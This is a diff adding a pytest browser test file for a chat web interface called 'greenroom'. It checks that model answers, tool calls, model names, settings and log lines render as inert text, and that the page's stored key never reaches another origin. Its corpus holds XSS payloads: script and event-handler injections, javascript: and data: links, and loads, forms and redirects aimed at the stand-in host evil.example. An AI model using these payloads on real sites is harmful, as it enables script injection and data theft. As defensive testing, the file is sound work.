@@ -1,0 +1,124 @@
+"""Output of models, tools and clients is data: no script runs, and nothing is asked of others."""
+
+from __future__ import annotations
+
+from functools import partial
+
+import pytest
+
+from greenroom.tests.browser.page import Page
+from greenroom.tests.browser.stand_in import STATUS, standing_in, text_events
+
+_RUN = "window.pwned=1"
+CORPUS = {
+    "script": f"<script>{_RUN}</script> <SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "handlers": f'<img src=x onerror="{_RUN}"> <svg onload={_RUN}> <body onload={_RUN}>'
+    f"<details ontoggle={_RUN} open>",
+    "frames": f'<iframe src="javascript:{_RUN}"></iframe><object data="https://evil.example"></object>',
+    "links": f"[a](javascript:{_RUN}) [b](JaVaScRiPt:{_RUN}) [c](data:text/html,<script>{_RUN}</script>) "
+    f"[d](vbscript:x) [e](//evil.example) [f](\tjavascript:{_RUN}) [g](/admin/models) [h](file:///etc/passwd)",
+    "good links": "[a](https://example.org/) [b](mailto:a@example.org) https://example.org/raw",
+    "images": "![x](https://evil.example/pixel.png) ![y](//evil.example/p.png) "
+    "![z](data:image/svg+xml,<svg/onload=1>)",
+    "image in link": "[![x](https://evil.example/pixel.png)](https://evil.example/)",
+    "styles": "<style>@import 'https://evil.example/x.css'; body {display: none}</style>"
+    "<link rel=stylesheet href=//evil.example>",
+    "forms": '<form action="https://evil.example"><input name=key><button>Go</button></form>'
+    '<base href="//evil.example">',
+    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "attributes": f'[x](https://example.org/"onmouseover="{_RUN}) ```"><script>{_RUN}</script>\ncode\n```',
+    "table": "|" + "a|" * 300 + "\n|" + "-|" * 300 + ("\n|" + "b|" * 300) * 20,
+    "deep quotes": ">" * 3_000 + " deep\n\n" + "- " * 3_000 + "deep",
+    "stars": "*" * 5_000 + "_" * 5_000 + "`" * 5_001 + "[" * 5_000,
+    "bidi": "abc \u202e live \u2066 \u2069 \u200b\u200d\ufeff z\u0361a\u0353l\u0332g\u0321o 😀 \u0000 \ufffd",
+    "prototype": "__proto__ constructor toString ${alert(1)} {{7*7}} <%= 1 %>",
+}
+MARK = "The end of the answer."
+
+
+@pytest.mark.parametrize("name", CORPUS)
+def test_no_answer_runs_or_fetches_anything(page: Page, name: str) -> None:
+    text = CORPUS[name]
+    with standing_in() as server:
+        server.answer = lambda: text_events([text, f"\n\n```\n```\n\n{MARK}"], reasoning=text, call=text)
+        page.open(server.address)
+        page.ask("Attack")
+        page.answer()
+        page.run("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
+        inside = page.run(
+            "return [...document.querySelectorAll('.markdown *')].map((each) => each.tagName).filter("
+            "(name) => /^(SCRIPT|IMG|SVG|IFRAME|OBJECT|STYLE|LINK|FORM|INPUT|BASE|META|BODY)$/i.test(name))"
+        )
+        assert inside == []
+        links = page.run(
+            "return [...document.querySelectorAll('.markdown a[href]')]"
+            ".map((each) => [each.protocol, each.rel])"
+        )
+        assert all(protocol in ("http:", "https:", "mailto:") for protocol, _ in links)
+        assert all("noreferrer" in rel for _, rel in links)
+        assert len(links) >= 4 or name != "good links"
+        page.wait(lambda: page.run("return document.readyState") == "complete")
+        assert page.offences() == []
+
+
+def test_ten_megabytes_in_a_line_leave_the_page_alive(page: Page) -> None:
+    with standing_in() as server:
+        server.answer = lambda: text_events(["x" * 10_000_000], call="y" * 1_000_000)
+        page.open(server.address)
+        page.ask("Attack")
+        page.answer()
+        page.wait(lambda: any("more characters are not shown" in text for text in page.texts(".markdown p")))
+        page.press("New chat")
+        page.wait(lambda: page.texts(".entry") == [])
+
+
+def test_names_and_log_lines_are_data_too(page: Page) -> None:
+    attack = "".join((CORPUS["script"], CORPUS["handlers"], CORPUS["bidi"]))
+    model: dict[str, object] = {
+        **{"id": attack, "state": attack, "since": 0, "pinned": False, "expires_at": None, "bytes": 1},
+        **{"load_progress": 0, "download": None, "running": 0, "waiting": 0, "restarts": 0, "rows": []},
+        **{"problem": attack, "last_error": attack},
+    }
+    setting = {"name": attack, "value": attack, "source": attack, "secret": False, "set": True}
+    with standing_in() as server:
+        documents = server.documents
+        documents["/v1/models"] = {"data": [{"id": attack, "state": attack, "type": "text"}]}
+        documents["/v1/conversations"] = {
+            "data": [{"id": "conv_1", "metadata": {"title": attack}}],
+            "has_more": False,
+        }
+        documents["/admin/models"] = {"models": [model]}
+        documents["/admin/status"] = {**STATUS, "version": attack, "problems": [attack]}
+        documents["/admin/settings"] = {"settings": [setting]}
+        server.events["/admin/events"] = [
+            ("load", {"model": attack, "stage": attack, "detail": attack, "time": 1})
+        ]
+        server.events["/admin/logs"] = [("log", {"event": attack, "level": attack, attack: attack})]
+        page.open(server.address)
+        page.wait(lambda: attack in page.texts("aside .list a"))
+        for place, selector in (("models", "h3"), ("settings", "td code"), ("log", ".lines strong")):
+            page.go(f"#control/{place}")
+            page.wait(partial(_shows, page, selector, attack))
+        assert page.offences() == []
+
+
+def test_the_page_never_sends_its_key_elsewhere(page: Page) -> None:
+    with standing_in() as server, standing_in() as other:
+        server.answer = lambda: text_events([f"[x]({other.address}/)"])
+        page.open(server.address)
+        page.run("sessionStorage.setItem('greenroom-key', 'secret')")
+        page.ask("Attack")
+        page.answer()
+        link = "return [...document.querySelectorAll('.markdown a')].map((each) => [each.target, each.rel])"
+        assert page.run(link) == [["_blank", "noreferrer noopener"]]
+        blocked = page.driver.execute_async_script(
+            "const [address, done] = arguments;"
+            "fetch(`${address}/v1/models`).then(() => done('sent'), () => done('refused'))",
+            other.address,
+        )
+        assert blocked == "refused"
+        assert page.run("return violations.splice(0)") == [f"connect-src {other.address}/v1/models"]
+
+
+def _shows(page: Page, selector: str, text: str) -> bool:
+    return text in page.texts(selector)
